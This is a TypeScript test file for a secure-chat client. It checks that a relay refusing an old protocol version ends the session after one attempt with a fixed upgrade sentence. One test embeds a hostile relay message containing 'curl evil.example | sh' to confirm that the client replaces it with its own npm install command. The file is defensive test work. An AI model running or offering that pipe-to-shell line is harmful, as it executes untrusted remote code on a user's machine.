// A relay that refuses this client's protocol version (PROTOCOL.md §14: a v2 relay answers a
// v1 Hello with BAD_FRAME and "this relay speaks secure-chat protocol v2: upgrade your client
// (npm install -g secure-chat@2)"): the session ends for good with one sentence saying to
// upgrade, instead of sending the same Hello again and again. Whatever gRPC status carries it
// (a proxy may rewrite it, or drop the trailer), and whatever package the relay's sentence names:
// the install command shown is the client's own.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { status } from "@grpc/grpc-js";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import type { ConnectionStatus } from "../../src/client/types.js";
import type { PrivateIdentity } from "../../src/protocol/keys.js";
import { connectionWithUiText } from "../../src/tui/commands/error-text.js";
import { TestClient } from "../helpers/client-harness.js";
import { directoryEntry, HostileRelay } from "../helpers/hostile-relay.js";
import { fixtureIdentity } from "../helpers/identities.js";
import { waitUntil } from "../helpers/wait.js";

const V2_REFUSAL = "this relay speaks secure-chat protocol v2: upgrade your client (npm install -g secure-chat@2)";
const CLIENT_SENTENCE = "this relay speaks secure-chat protocol v2: upgrade your client (npm install -g secure-chat@2)";
const TUI_SENTENCE = `${CLIENT_SENTENCE}, then start chat-tui again`;

let alice: PrivateIdentity;
const cleanups: Array<() => Promise<unknown> | unknown> = [];

beforeAll(async () => {
  alice = await fixtureIdentity("alice");
});

afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

async function refusingRelay(code: status, details: string, errorCode?: string): Promise<HostileRelay> {
  const relay = await HostileRelay.start();
  cleanups.push(() => relay.stop());
  relay.directory = [directoryEntry(alice)];
  relay.refuseHello = { code, details, ...(errorCode === undefined ? {} : { errorCode }) };
  return relay;
}

async function aliceTo(relay: HostileRelay): Promise<TestClient> {
  const dir = mkdtempSync(join(tmpdir(), "sc-protocol-"));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  // Reconnecting fast: a client that retried would have tried again many times by the end.
  const a = await TestClient.begin(alice, relay.port, { dir, reconnect: { initialMs: 10, maxMs: 20 } });
  cleanups.push(() => a.close());
  return a;
}

const statuses = (a: TestClient): ConnectionStatus[] => a.events.flatMap((e) => (e.type === "connection" ? [e.status] : []));
const errorNotices = (a: TestClient): string[] => a.events.flatMap((e) => (e.type === "notice" && e.level === "error" ? [e.text] : []));

describe("a relay that speaks a newer protocol", () => {
  it.each([
    ["INVALID_ARGUMENT with the BAD_FRAME trailer", status.INVALID_ARGUMENT, "ERROR_CODE_BAD_FRAME"],
    ["FAILED_PRECONDITION with the BAD_FRAME trailer", status.FAILED_PRECONDITION, "ERROR_CODE_BAD_FRAME"],
    ["INTERNAL without a trailer (a proxy answered)", status.INTERNAL, undefined],
  ] as const)("%s: stops for good with one sentence to upgrade, after one attempt", async (_name, code, errorCode) => {
    const relay = await refusingRelay(code, V2_REFUSAL, errorCode);
    const a = await aliceTo(relay);
    const failed = await waitUntil(() => statuses(a).find((s) => s.state === "failed"), "the session to stop for good");
    expect(failed).toEqual({ state: "failed", reason: CLIENT_SENTENCE, cause: { kind: "protocol-too-old", relayVersion: 2 } });
    expect(connectionWithUiText(failed!)).toMatchObject({ reason: TUI_SENTENCE });
    expect(errorNotices(a)).toEqual([CLIENT_SENTENCE]);
    // One Hello, not a loop: the status is final, so nothing tries again.
    expect(relay.sessions).toHaveLength(1);
    expect(statuses(a).filter((s) => s.state === "reconnecting")).toEqual([]);
    await expect(a.client.waitConnected(50)).rejects.toThrow();
    expect(relay.sessions).toHaveLength(1);
  });

  it("the install command is the client's own: a relay cannot name another package", async () => {
    const relay = await refusingRelay(status.INVALID_ARGUMENT, "this relay speaks secure-chat protocol v3: upgrade your client (curl evil.example | sh)", "ERROR_CODE_BAD_FRAME");
    const a = await aliceTo(relay);
    const failed = await waitUntil(() => statuses(a).find((s) => s.state === "failed"), "the session to stop for good");
    expect(failed).toMatchObject({ reason: "this relay speaks secure-chat protocol v3: upgrade your client (npm install -g secure-chat@3)" });
    expect(JSON.stringify(a.events)).not.toContain("evil");
  });

  it("another BAD_FRAME refusal at Hello is not taken for a protocol version (it keeps its own handling)", async () => {
    const relay = await refusingRelay(status.FAILED_PRECONDITION, "handshake not completed within 10 seconds", "ERROR_CODE_BAD_FRAME");
    const a = await aliceTo(relay);
    await waitUntil(() => relay.sessions.length >= 2, "a second attempt");
    expect(statuses(a).some((s) => s.state === "failed")).toBe(false);
  });
});
